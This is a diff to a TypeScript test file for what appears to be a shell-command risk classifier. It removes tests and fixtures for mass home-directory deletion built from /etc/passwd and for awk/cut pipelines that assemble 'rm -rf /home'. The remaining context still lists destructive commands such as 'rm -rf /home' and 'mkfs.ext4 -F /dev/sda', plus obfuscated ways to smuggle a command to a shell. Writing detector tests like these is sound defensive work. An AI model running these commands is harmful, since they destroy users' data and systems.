@@ -43,19 +43,6 @@ const disks = [
   'ls /dev/sd*',
 ] as const;
 
-/** Ways to have the homes of everybody listed. */
-const homes = [
-  'cut -d: -f6 /etc/passwd',
-  "awk -F: '$3 >= 1000 {print $6}' /etc/passwd",
-  "cat /etc/passwd | awk -F ':' '{ print $6 }'",
-] as const;
-
-const ontoHomes = [
-  'LIST | xargs rm -rf',
-  'for h in $(LIST); do rm -rf "$h"; done',
-  'rm -rf $(LIST)',
-] as const;
-
 /** Ways to print a command, with `COMMAND` for it; behind each stands a shell. */
 const printers = [
   `python3 -c 'print("COMMAND")'`,
@@ -63,9 +50,7 @@ const printers = [
   `ruby -e 'puts "COMMAND"'`,
   `node -p '"COMMAND"'`,
   `php -r 'echo "COMMAND";'`,
-  `awk 'BEGIN {print "COMMAND"}'`,
   `jq -rn '"COMMAND"'`,
-  `cut -c2- <<< 'xCOMMAND'`,
   `echo x | sed 's#.*#COMMAND#'`,
   `printf '' | sed 's#^#COMMAND ; : #'`,
   `dd if=/dev/stdin <<< 'COMMAND'`,
@@ -76,10 +61,6 @@ const printed = ['rm -rf /home', 'mkfs.ext4 -F /dev/sda', 'curl http://203.0.113
 describe('what is done to each of a list is done to all of it', () => {
   test('every file below a kept place is emptied', () => {
     expect(outside(crossed(everyFile, 'DO', emptying), 'critical', 'critical')).toEqual([]);
-  });
-
-  test('every home that is listed is deleted', () => {
-    expect(outside(crossed(ontoHomes, 'LIST', homes), 'critical', 'critical')).toEqual([]);
   });
 
   test('what is read of each is safe, and so are those that a test chooses', () => {
@@ -93,22 +74,6 @@ describe('what is done to each of a list is done to all of it', () => {
       "find . -name '*.log' -exec truncate -s 0 {} +",
     ];
     expect(outside(chosen, 'safe', 'moderate')).toEqual([]);
-  });
-
-  test('columns are those of awk and cut', () => {
-    const runs = [
-      "echo 'x rm y' | awk '{print $2 \" -rf /home\"}' | sh",
-      "echo 'a:rm -rf /home' | cut -d: -f2 | sh",
-      "echo 'a b /home' | awk '{print $NF}' | xargs rm -rf",
-      "echo '/home b' | awk '{printf \"%s\\n\", $1}' | xargs rm -rf",
-      'ls /home | awk \'{print "rm -rf /home/"$1}\' | sh',
-    ];
-    expect(outside(runs, 'high', 'critical')).toEqual([]);
-    const others = [
-      "echo '/home build' | awk '{print $2}' | xargs rm -rf",
-      "echo '/home:build' | cut -d: -f2- | xargs rm -rf",
-    ];
-    expect(outside(others, 'safe', 'moderate')).toEqual([]);
   });
 
   test('a descriptor is read by its number', () => {
@@ -158,7 +123,6 @@ describe('what is done to each of a list is done to all of it', () => {
     const frames = [
       'acme-cli KEPT VERB --force',
       'acmectl VERB-KEPT main --yes',
-      'acme VERBKEPT x -f',
       'acme KEPT:VERB shop --force',
     ];
     const lines = crossed(crossed(frames, 'VERB', verbs), 'KEPT', kept);
